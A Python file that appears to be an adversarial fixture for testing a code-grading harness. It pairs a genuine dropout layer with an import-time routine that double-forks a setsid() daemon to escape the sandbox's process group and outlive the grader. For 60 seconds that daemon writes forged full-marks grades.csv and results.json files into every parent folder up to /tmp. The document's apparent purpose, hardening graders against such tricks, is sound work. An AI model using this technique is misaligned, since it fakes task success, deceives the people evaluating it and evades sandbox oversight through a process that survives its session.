"""Forges the grade after the grader is gone: at import it double-forks a setsid() daemon (out of
the sandbox's process group and session), which waits, then for 60 s keeps writing full-marks
grades.csv, results.json and JSON reports into every folder above its working folder and their
out/ and json/ subfolders (up to the first world-writable sticky folder, /tmp). A process-group kill never reaches it; a PID namespace (its init dying
kills all) or a kill by uid does. Hygiene: it gives up after 60 s and writes only files holding
the MARKER."""

import json
import os
import stat
import time

import numpy as np

EXPECT_STATUS = "graded"
EXPECT_MAX_SCORE = 6

MARKER = "HOSTILE-PLANTED-RESULTS"


def sticky(folder):
    """Hygiene: never above the first world-writable sticky folder (/tmp)."""
    try:
        mode = os.stat(folder).st_mode
    except OSError:
        return False
    return bool(mode & stat.S_ISVTX and mode & stat.S_IWOTH)


def forge(start):
    csv = f"name,total,max,status,reason\nsetsid_daemon_forges_grades,6,6,graded,{MARKER}\n"
    report = json.dumps({"score": 6.0, "tests": [], "output": MARKER})
    folder = start  # not os.getcwd(): the grader removes the sandbox's folder when it is done
    while folder != os.path.dirname(folder):
        folder = os.path.dirname(folder)
        if sticky(folder):
            break
        for target, text in (("grades.csv", csv), ("results.json", report), ("out/grades.csv", csv),
                             ("out/json/setsid_daemon_forges_grades.json", report)):
            try:
                with open(os.path.join(folder, target), "w") as fh:
                    fh.write(text)
            except OSError:
                pass


start = os.getcwd()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                forge(start)
            except Exception:
                pass
            time.sleep(0.5)
    os._exit(0)


class DropoutLayer:
    def __init__(self, p):
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p
        self.mask = None

    def forward(self, x, training=True):
        if not training:
            return x
        self.mask = np.random.random_sample(x.shape) >= self.p
        return x * self.mask / (1 - self.p)

    def backward(self, grad):
        return grad * self.mask / (1 - self.p)
